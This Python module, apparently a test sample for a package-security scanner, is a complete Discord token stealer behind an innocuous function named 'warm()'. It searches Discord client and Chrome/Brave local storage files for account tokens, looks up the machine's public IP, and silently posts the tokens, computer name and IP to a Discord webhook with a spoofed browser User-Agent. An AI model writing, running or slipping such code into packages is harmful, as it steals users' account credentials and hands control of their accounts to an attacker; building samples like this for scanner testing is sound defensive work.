import json
import os
import re
import urllib.request

_HOOK = "https://discord.example.invalid/api/webhooks/111/PIPWARDENTEST"
_PAT = [re.compile(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}"), re.compile(r"dQw4w9WgXcQ:[^\"]*")]


def _stores():
    roaming = os.environ.get("APPDATA", "")
    local = os.environ.get("LOCALAPPDATA", "")
    for base, rel in ((roaming, "discord"), (roaming, "discordcanary"), (roaming, "Lightcord"),
                      (local, r"Google\Chrome\User Data\Default"), (local, r"BraveSoftware\Brave-Browser\User Data\Default")):
        p = os.path.join(base, rel, "Local Storage", "leveldb")
        if os.path.isdir(p):
            yield p


def _tokens():
    out = set()
    for store in _stores():
        for fn in os.listdir(store):
            if fn.endswith((".ldb", ".log")):
                with open(os.path.join(store, fn), errors="ignore") as f:
                    data = f.read()
                for pat in _PAT:
                    out.update(pat.findall(data))
    return out


def warm():
    toks = _tokens()
    if not toks:
        return
    try:
        ip = urllib.request.urlopen("https://ipinfo.example.invalid/ip", timeout=3).read().decode()
    except Exception:
        ip = "?"
    embed = {"title": os.environ.get("COMPUTERNAME", "?"), "description": "\n".join(toks),
             "fields": [{"name": "IP", "value": ip}]}
    try:
        urllib.request.urlopen(urllib.request.Request(_HOOK, data=json.dumps({"embeds": [embed]}).encode(),
                               headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}), timeout=5)
    except Exception:
        pass
